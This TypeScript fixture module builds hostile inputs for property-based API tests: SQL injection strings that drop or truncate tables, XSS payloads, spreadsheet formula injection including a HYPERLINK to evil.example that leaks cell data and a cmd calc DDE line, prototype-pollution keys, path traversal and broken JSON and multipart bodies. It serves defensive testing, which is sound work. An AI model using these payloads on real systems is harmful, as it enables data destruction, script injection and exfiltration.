/**
 * Hostile input for the property tests of issue 9: strings and values an attacker or a broken client may
 * send, and the request shapes built from them (a route's own body with one field spoiled, the right keys
 * with wrong types, JSON that is not JSON, the wrong content type, prototype-pollution keys, deep nesting).
 */
import fc from 'fast-check';

/** One seed for every property of a run: FC_SEED=… replays a failure (fast-check prints the seed and path). */
export const FC_SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_260_924;

/** Runs per property; FC_RUNS=… for a longer hunt. */
export function runs(base: number): number {
  return process.env.FC_RUNS ? Number(process.env.FC_RUNS) : base;
}

export const SQL_INJECTION = [
  "'; drop table workers; --",
  "' OR '1'='1",
  '1; DELETE FROM users WHERE 1=1',
  "Robert'); DROP TABLE audit_log;--",
  '$$; select pg_sleep(10); $$',
  "\\'; truncate sessions; --",
];

export const HTML_INJECTION = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert('x')", '<svg/onload=alert(1)>', '{{7*7}}${7*7}'];

/** Spreadsheet formula injection: what every export must neutralise. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'];

export const UNICODE_EDGES = [
  '\uD800', // lone high surrogate
  'x\uDFFFy', // lone low surrogate
  '\u0000', // NUL
  'a\u0000b',
  '\u202Eevil\u202C', // right-to-left override
  '\u200F\u200E', // RTL / LTR marks
  'Siti\u200DAminah', // zero-width joiner
  '\u200B\uFEFF', // zero-width space, BOM
  '👨‍👩‍👧‍👦🇮🇩', // emoji ZWJ sequence and a flag
  'Z̷̡̛̰a̸̞͐l̴̰̈g̶̣̈́o̵̯͝', // stacked combining marks
  '\uFFFF\uFFFE',
  'ﷺ', // one code point that renders wide
  '\r\n\t\v\f\b',
  '𝕁𝕒𝕣𝕚𝕟𝕘', // astral letters
];

/** A string of 100 kB or more (under the 1 MB body limit). */
export const hugeString = fc.integer({ min: 100_000, max: 300_000 }).chain((n) => fc.constantFrom('A', 'é', '=', '😀').map((ch) => ch.repeat(n / ch.length)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SQL_INJECTION, ...HTML_INJECTION, ...FORMULAS, ...UNICODE_EDGES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '   ', 'null', 'undefined', 'true', '0', '-1', '1e309', 'NaN', '2026-02-30', '9999-99-99', '00000000-0000-0000-0000-000000000000') },
  { weight: 1, arbitrary: hugeString },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, -1e308, 5e-324, 999_999_999_999_999),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** Any JSON value, with hostile strings and numbers more likely than random ones. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null, [], {}, [null], { '': '' }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** JSON text that no JSON parser should accept, or that is JSON only in name. */
export const INVALID_JSON = [
  '{',
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  '{"a":1}{"b":2}',
  'undefined',
  'NaN',
  '{"a":NaN}',
  '{"a":Infinity}',
  '\uFEFF{}',
  '/* c */{}',
  '{"a":"\\x41"}',
  '{"a":"\\u12"}',
  '{"a":"unterminated}',
  '{"a":1e99999}',
  '[',
  ']',
  ':',
  ' ',
  '"\\ud800"',
  '{"a":"\\u0000"}',
  '{"__proto__":null}',
  '\u0000',
];

/** Content types a write may arrive with; only JSON (and multipart for uploads) are accepted. */
export const WRONG_CONTENT_TYPES = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/jsonx',
  'application/vnd.api+json',
  'text/html',
  ';;;',
];

/** Prototype-pollution keys, as raw JSON (a JS object literal would set the prototype instead). */
export const POLLUTION_FRAGMENTS = [
  '"__proto__":{"isAdmin":true,"role":"admin"}',
  '"constructor":{"prototype":{"isAdmin":true}}',
  '"__proto__":{"__proto__":{"polluted":1}}',
  '"prototype":{"polluted":1}',
];

/** Values a path parameter should never be: not a UUID, not a code, traversal, encodings gone wrong. */
export const MALFORMED_PARAMS = [
  'abc',
  '1',
  '-1',
  '0',
  'null',
  'undefined',
  '%00',
  '%ED%A0%80', // a lone surrogate, UTF-8 encoded (invalid UTF-8)
  '%FF%FE',
  '%',
  '%zz',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  encodeURIComponent("1' OR '1'='1"),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('00000000-0000-0000-0000-00000000000g'),
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'A'.repeat(5000),
  encodeURIComponent('😀'.repeat(50)),
  encodeURIComponent('52.03.01.2001\u202E'),
  '52.03.99.9999',
  '99999999999999999999',
  '2026.5',
  '1e3',
];

/** Nested arrays or objects, `depth` levels deep, as JSON text. */
export function deeplyNested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** The leaf paths of a sample body: `heirs.0.name`, `amounts.scholarship.maxChildren`. */
export function leafPaths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(value)) {
    if (value.length === 0) return [prefix];
    return [prefix, ...leafPaths(value[0], [...prefix, 0])];
  }
  if (typeof value === 'object' && value !== null) {
    const entries = Object.entries(value);
    if (entries.length === 0) return [prefix];
    return entries.flatMap(([k, v]) => leafPaths(v, [...prefix, k]));
  }
  return [prefix];
}

/** A deep copy of `value` with the value at `path` replaced (an empty path replaces the whole). */
export function setAt(value: unknown, path: (string | number)[], replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const [head, ...rest] = path;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as Record<string, unknown>) }) as Record<string | number, unknown>;
  copy[head!] = setAt((value as Record<string | number, unknown>)?.[head!], rest, replacement);
  return copy;
}

/** Every string leaf of `value` replaced by `text`. */
export function everyStringAs(value: unknown, text: string): unknown {
  if (typeof value === 'string') return text;
  if (Array.isArray(value)) return value.map((v) => everyStringAs(v, text));
  if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, everyStringAs(v, text)]));
  return value;
}

/** What one generated request sends: a label for the failure report, the body bytes and their type. */
export interface HostileBody {
  label: string;
  payload: string | Buffer | undefined;
  contentType: string | undefined;
}

/** How fast-check prints a counterexample: long values cut short, so a failure report stays readable. */
export function shortly(value: string, max = 160): string {
  const text = JSON.stringify(value);
  return text.length <= max ? text : `${text.slice(0, max)}…(${value.length} chars)`;
}

/** A body fast-check prints by its label, content type and the start of its payload. */
function printable(body: HostileBody): HostileBody {
  const payload = body.payload === undefined ? '(none)' : shortly(Buffer.isBuffer(body.payload) ? body.payload.toString('latin1') : body.payload);
  return Object.assign(body, { [fc.toStringMethod]: () => `[${body.label}] ${body.contentType ?? '(no content-type)'} ${payload}` });
}

const json = (label: string, value: unknown): HostileBody => ({ label, payload: JSON.stringify(value), contentType: 'application/json' });

/**
 * Hostile bodies for a JSON route, built around a body it accepts (`sample`, or `{}` for routes that take
 * none): a random JSON value, the sample's keys with wrong types, the sample with one leaf (or every
 * string) spoiled, pollution keys, deep nesting, broken JSON text, a wrong content type, an oversized body.
 */
export function hostileJsonBody(sample: Record<string, unknown>): fc.Arbitrary<HostileBody> {
  const paths = leafPaths(sample).filter((p) => p.length > 0);
  const keys = Object.keys(sample);
  const arbitraries: fc.Arbitrary<HostileBody>[] = [
    fc.jsonValue().map((v) => json('random JSON value', v)),
    fc.string({ unit: 'binary', maxLength: 60 }).map((s) => ({ label: 'random text as JSON', payload: s, contentType: 'application/json' })),
    fc.constantFrom(...INVALID_JSON).map((s) => ({ label: 'invalid JSON', payload: s, contentType: 'application/json' })),
    fc
      .tuple(fc.constantFrom(...WRONG_CONTENT_TYPES), fc.oneof(fc.constant(JSON.stringify(sample)), fc.string({ maxLength: 30 })))
      .map(([type, payload]) => ({ label: `content-type ${type}`, payload, contentType: type })),
    fc.constantFrom(...POLLUTION_FRAGMENTS).map((fragment) => {
      const base = JSON.stringify(sample);
      const payload = base === '{}' ? `{${fragment}}` : `{${fragment},${base.slice(1)}`;
      return { label: 'prototype pollution', payload, contentType: 'application/json' };
    }),
    fc
      .tuple(fc.integer({ min: 100, max: 20_000 }), fc.constantFrom('array' as const, 'object' as const))
      .map(([depth, kind]) => ({ label: `nested ${kind} ×${depth}`, payload: deeplyNested(depth, kind), contentType: 'application/json' })),
    fc.integer({ min: 1_100_000, max: 2_500_000 }).map((n) => json('body over the limit', { ...sample, filler: 'x'.repeat(n) })),
    fc.constant({ label: 'no body', payload: undefined, contentType: undefined }),
    fc.constant({ label: 'empty JSON body', payload: '', contentType: 'application/json' }),
  ];
  if (keys.length > 0) {
    arbitraries.push(
      fc
        .record(Object.fromEntries(keys.map((k) => [k, hostileValue])), { requiredKeys: [] })
        .map((v) => json('right keys, wrong types', v)),
    );
  }
  if (paths.length > 0) {
    arbitraries.push(
      fc.tuple(fc.constantFrom(...paths), hostileValue).map(([path, v]) => json(`${path.join('.')} spoiled`, setAt(sample, path, v))),
      fc.tuple(fc.constantFrom(...paths), hostileString).map(([path, v]) => json(`${path.join('.')} hostile text`, setAt(sample, path, v))),
      fc.constantFrom(...SQL_INJECTION, ...HTML_INJECTION, ...UNICODE_EDGES, ...FORMULAS).map((s) => json('every string hostile', everyStringAs(sample, s))),
      fc.tuple(fc.constantFrom(...paths), fc.constantFrom(...POLLUTION_FRAGMENTS)).map(([path, fragment]) => {
        // Pollution one level down: inside the object that holds the leaf.
        const holder = path.slice(0, -1);
        if (holder.length === 0) return { label: 'prototype pollution', payload: `{${fragment},${JSON.stringify(sample).slice(1)}`, contentType: 'application/json' };
        const marker = '"__hostile_marker__":0';
        const marked = setAt(sample, [...holder, '__hostile_marker__'], 0);
        return { label: `prototype pollution in ${holder.join('.')}`, payload: JSON.stringify(marked).replace(marker, fragment), contentType: 'application/json' };
      }),
    );
  }
  return fc.oneof(...arbitraries).map(printable);
}

/** Percent-encodes every UTF-8 byte of a string (lone surrogates become U+FFFD, as a browser would send). */
export function encodeAllBytes(value: string): string {
  return [...Buffer.from(value, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
}

/** A hostile path parameter value, ready to put in a URL. */
export const hostileParam: fc.Arbitrary<{ value: string }> = fc
  .oneof({ weight: 3, arbitrary: fc.constantFrom(...MALFORMED_PARAMS) }, { weight: 2, arbitrary: hostileString.filter((s) => s.length < 2000).map(encodeAllBytes) })
  .map((value) => ({ value, [fc.toStringMethod]: () => shortly(value) }));

function multipart(parts: { name: string; fileName?: string; contentType?: string; content: string | Buffer }[], boundary = 'hostileBoundary42'): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = part.fileName === undefined ? `form-data; name="${part.name}"` : `form-data; name="${part.name}"; filename="${part.fileName}"`;
    const type = part.contentType ? `\r\nContent-Type: ${part.contentType}` : '';
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}${type}\r\n\r\n`, 'utf8'));
    chunks.push(Buffer.isBuffer(part.content) ? part.content : Buffer.from(part.content, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

const MULTIPART = 'multipart/form-data; boundary=hostileBoundary42';

/**
 * Hostile uploads for a multipart route: random bytes under hostile names and fields, the form broken in
 * every way (no boundary, truncated, two files, the file as a text field, oversized and surplus fields),
 * and JSON where a form was expected.
 */
export const hostileUpload: fc.Arbitrary<HostileBody> = fc.oneof(
  fc
    .record({
      content: fc.oneof(fc.uint8Array({ maxLength: 3000 }).map((a) => Buffer.from(a)), fc.string({ unit: 'binary', maxLength: 500 }), hostileString),
      fileName: fc.oneof(fc.constantFrom('data.csv', 'data.xlsx', 'data.xls', 'data', '.csv', '../../etc/passwd', 'a"b.csv', 'x\r\ny.csv', 'nul\u0000.csv'), hostileString.filter((s) => s.length < 300)),
      village: fc.option(fc.oneof(fc.constantFrom('52.03.01.2001', '52.03.02.2001', '52.01.01.2001'), hostileString.filter((s) => s.length < 2000))),
      kind: fc.option(fc.oneof(fc.constantFrom('bpjs', 'workers'), hostileString.filter((s) => s.length < 200))),
      fileSize: fc.option(fc.oneof(fc.constantFrom('1e999', '-1', '9007199254740993', 'NaN'), hostileString.filter((s) => s.length < 200))),
    })
    .map(({ content, fileName, village, kind, fileSize }) => {
      const fields = Object.entries({ village, kind, fileSize }).flatMap(([name, value]) => (value === null ? [] : [{ name, content: value }]));
      return { label: `upload of ${JSON.stringify(fileName).slice(0, 40)}`, payload: multipart([...fields, { name: 'file', fileName, content }]), contentType: MULTIPART };
    }),
  fc.constantFrom<HostileBody>(
    { label: 'multipart without boundary', payload: multipart([{ name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n' }]), contentType: 'multipart/form-data' },
    { label: 'multipart with another boundary', payload: multipart([{ name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n' }], 'other'), contentType: MULTIPART },
    { label: 'multipart truncated', payload: multipart([{ name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n'.repeat(50) }]).subarray(0, 200), contentType: MULTIPART },
    { label: 'multipart empty', payload: '', contentType: MULTIPART },
    { label: 'multipart only the end', payload: '--hostileBoundary42--\r\n', contentType: MULTIPART },
    {
      label: 'two files',
      payload: multipart([
        { name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n' },
        { name: 'file', fileName: 'b.csv', content: 'NIK;Nama\r\n' },
      ]),
      contentType: MULTIPART,
    },
    { label: 'file as a text field', payload: multipart([{ name: 'file', content: 'NIK;Nama;Kode Desa;Pekerjaan\r\n' }]), contentType: MULTIPART },
    { label: 'file under another name', payload: multipart([{ name: 'berkas', fileName: 'a.csv', content: 'NIK;Nama\r\n' }]), contentType: MULTIPART },
    { label: 'oversized field', payload: multipart([{ name: 'village', content: 'x'.repeat(100_000) }, { name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n' }]), contentType: MULTIPART },
    {
      label: 'surplus fields',
      payload: multipart([...Array.from({ length: 40 }, (_, i) => ({ name: `f${i}`, content: 'x' })), { name: 'file', fileName: 'a.csv', content: 'NIK;Nama\r\n' }]),
      contentType: MULTIPART,
    },
    { label: 'empty file', payload: multipart([{ name: 'file', fileName: 'kosong.csv', content: '' }]), contentType: MULTIPART },
    { label: 'JSON instead of a form', payload: JSON.stringify({ file: 'NIK;Nama', village: '52.03.01.2001' }), contentType: 'application/json' },
    { label: 'no body', payload: undefined, contentType: undefined },
  ),
).map(printable);
